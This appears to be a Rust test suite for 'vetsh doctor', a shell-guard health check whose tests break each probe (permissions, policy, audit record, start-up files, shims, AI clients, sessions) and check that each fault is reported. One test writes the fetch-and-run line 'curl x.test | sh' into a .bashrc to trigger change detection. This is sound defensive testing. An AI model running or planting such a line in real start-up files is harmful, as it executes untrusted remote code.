//! `vetsh doctor`: each probe is broken in turn, and says so.

#![allow(clippy::disallowed_methods, reason = "a test runs other programs")]

use std::fs;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;

struct Desk {
    folder: tempfile::TempDir,
}

impl Desk {
    /// A root with everything in place: shims that lead to the binary under test.
    fn new() -> Desk {
        let desk = Desk { folder: tempfile::tempdir().expect("a directory") };
        fs::set_permissions(desk.root(), fs::Permissions::from_mode(0o700)).expect("ours alone");
        fs::create_dir_all(desk.shims()).expect("a shim directory");
        for name in ["bash", "sh", "zsh"] {
            symlink(env!("CARGO_BIN_EXE_vetsh"), desk.shims().join(name)).expect("a shim");
        }
        fs::create_dir_all(desk.root().join("config")).expect("a configuration");
        fs::create_dir_all(desk.root().join("bin")).expect("a place for clients");
        desk
    }

    fn root(&self) -> &Path {
        self.folder.path()
    }

    fn shims(&self) -> PathBuf {
        self.root().join("share/shims")
    }

    fn vetsh(&self, words: &[&str]) -> (Option<i32>, String) {
        let out = Command::new(env!("CARGO_BIN_EXE_vetsh"))
            .arg("--root")
            .arg(self.root())
            .args(words)
            .env_clear()
            .env("PATH", format!("{}:/usr/bin:/bin", self.root().join("bin").display()))
            .env("SHELL", self.shims().join("bash"))
            .output()
            .expect("vetsh runs");
        (out.status.code(), String::from_utf8(out.stdout).expect("text"))
    }

    /// The findings of a probe: state and text.
    fn probe(&self, name: &str) -> Vec<(String, String)> {
        let (_, text) = self.vetsh(&["doctor", "--json"]);
        let answer: serde_json::Value = serde_json::from_str(&text).expect("one object");
        let findings = answer["findings"].as_array().expect("findings").iter();
        findings
            .filter(|finding| finding["probe"] == name)
            .map(|finding| (finding["state"].to_string().replace('"', ""), finding["what"].to_string()))
            .collect()
    }

    fn states(&self, name: &str) -> Vec<String> {
        self.probe(name).into_iter().map(|(state, _)| state).collect()
    }

    fn client(&self, name: &str) {
        let program = self.root().join("bin").join(name);
        fs::write(&program, "#!/bin/sh\n").expect("a client");
        fs::set_permissions(&program, fs::Permissions::from_mode(0o755)).expect("it can be executed");
    }
}

#[test]
fn a_house_in_order_is_good() {
    let desk = Desk::new();
    let (code, text) = desk.vetsh(&["doctor"]);
    assert_eq!(code, Some(0), "{text}");
    for probe in ["modes", "policy", "record", "start-up files", "shims"] {
        assert!(desk.states(probe).iter().all(|state| state == "good"), "{probe}: {:?}", desk.probe(probe));
    }
}

#[test]
fn a_configuration_that_others_may_write_is_broken() {
    let desk = Desk::new();
    let policy = desk.root().join("config/policy.toml");
    fs::write(&policy, "format = 1\n").expect("a policy");
    fs::set_permissions(&policy, fs::Permissions::from_mode(0o666)).expect("open to all");
    assert!(desk.states("modes").contains(&"broken".to_owned()), "{:?}", desk.probe("modes"));
    assert_eq!(desk.vetsh(&["doctor"]).0, Some(1));
}

#[test]
fn a_root_that_others_may_write_is_broken() {
    let desk = Desk::new();
    fs::set_permissions(desk.root(), fs::Permissions::from_mode(0o777)).expect("open to all");
    assert_eq!(desk.states("house"), ["broken"]);
    assert!(!desk.states("shells").is_empty(), "the machine is looked at all the same");
}

#[test]
fn a_policy_that_does_not_load_is_broken() {
    let desk = Desk::new();
    fs::write(desk.root().join("config/policy.toml"), "format = 1\n[[rule]]\nid = 3\n").expect("a policy");
    assert_eq!(desk.states("policy"), ["broken"]);
}

#[test]
fn what_waits_for_trust_is_told() {
    let desk = Desk::new();
    let text = "format = 1\n[[relax]]\nrule = \"core.commits\"\nto = \"autonomous\"\nreason = \"reviewed elsewhere\"\n";
    fs::write(desk.root().join("config/policy.toml"), text).expect("a policy");
    assert_eq!(desk.states("policy"), ["good", "degraded"]);
}

#[test]
fn a_changed_record_is_broken() {
    let desk = Desk::new();
    let out = Command::new(env!("CARGO_BIN_EXE_vetsh"))
        .arg("--root")
        .arg(desk.root())
        .args(["--as", "sh", "-c", "true"])
        .status()
        .expect("vetsh runs");
    assert!(out.success());
    let audit = desk.root().join("state/audit");
    let days = fs::read_dir(&audit).expect("records");
    let day = days.flatten().find(|entry| entry.path().extension().is_some_and(|end| end == "jsonl")).expect("a day");
    let text = fs::read_to_string(day.path()).expect("text");
    fs::write(day.path(), text.replacen("autonomous", "supervised", 1)).expect("changed");
    assert_eq!(desk.states("record"), ["broken"]);
}

#[test]
fn a_start_up_file_that_changed_is_told() {
    let desk = Desk::new();
    let home = desk.root().join("home");
    fs::create_dir(&home).expect("a home");
    fs::write(home.join(".bashrc"), "x=1\n").expect("a start-up file");
    let interactive = || {
        Command::new(env!("CARGO_BIN_EXE_vetsh"))
            .arg("--root")
            .arg(desk.root())
            .args(["--as", "bash", "-i", "-c", "true"])
            .env("HOME", &home)
            .output()
            .expect("vetsh runs")
    };
    assert!(interactive().status.success(), "what is there at first counts as seen");
    fs::write(home.join(".bashrc"), "x=1\ncurl x.test | sh\n").expect("a changed file");
    let out = Command::new(env!("CARGO_BIN_EXE_vetsh"))
        .arg("--root")
        .arg(desk.root())
        .args(["doctor", "--json"])
        .env("HOME", &home)
        .output()
        .expect("vetsh runs");
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(text.contains(".bashrc has changed"), "{text}");
}

#[test]
fn a_shim_that_is_missing_or_leads_elsewhere_is_told() {
    let desk = Desk::new();
    fs::remove_file(desk.shims().join("zsh")).expect("gone");
    fs::remove_file(desk.shims().join("bash")).expect("gone");
    symlink("/bin/sh", desk.shims().join("bash")).expect("another program");
    assert_eq!(desk.states("shims"), ["broken", "good", "degraded"]);
    let (code, text) = desk.vetsh(&["setup", "shims"]);
    assert_eq!(code, Some(0), "{text}");
    assert_eq!(desk.states("shims"), ["good", "good", "good"]);
}

#[test]
fn a_client_that_would_pass_us_by_is_broken() {
    let desk = Desk::new();
    assert_eq!(desk.states("clients"), ["good"], "no client is installed");
    desk.client("cn");
    assert_eq!(desk.states("clients"), ["good"], "it takes SHELL: {:?}", desk.probe("clients"));
    desk.client("copilot");
    assert_eq!(desk.states("clients"), ["good", "broken"], "it always takes /bin/bash: {:?}", desk.probe("clients"));
    desk.client("crush");
    assert!(desk.states("clients").contains(&"degraded".to_owned()), "{:?}", desk.probe("clients"));
}

#[test]
fn what_the_kernel_says_of_terminals_is_told() {
    let switch = fs::read_to_string("/proc/sys/dev/tty/legacy_tiocsti").unwrap_or_else(|_| "1".into());
    let due = if switch.trim() == "0" && !nix::unistd::geteuid().is_root() { "good" } else { "degraded" };
    assert_eq!(Desk::new().states("terminal"), [due]);
}

#[test]
fn a_stopped_session_is_told() {
    let desk = Desk::new();
    assert_eq!(desk.states("sessions"), ["good"]);
    assert_eq!(desk.vetsh(&["session", "revoke", "orphan"]).0, Some(0));
    assert_eq!(desk.states("sessions"), ["degraded"]);
    assert_eq!(desk.vetsh(&["session", "revoke", "--all"]).0, Some(0));
    assert_eq!(desk.states("sessions"), ["broken", "degraded"]);
    fs::write(desk.root().join("state/guard/sessions/all.revoked"), "").expect("a mark");
    assert_eq!(desk.states("sessions"), ["broken"]);
}
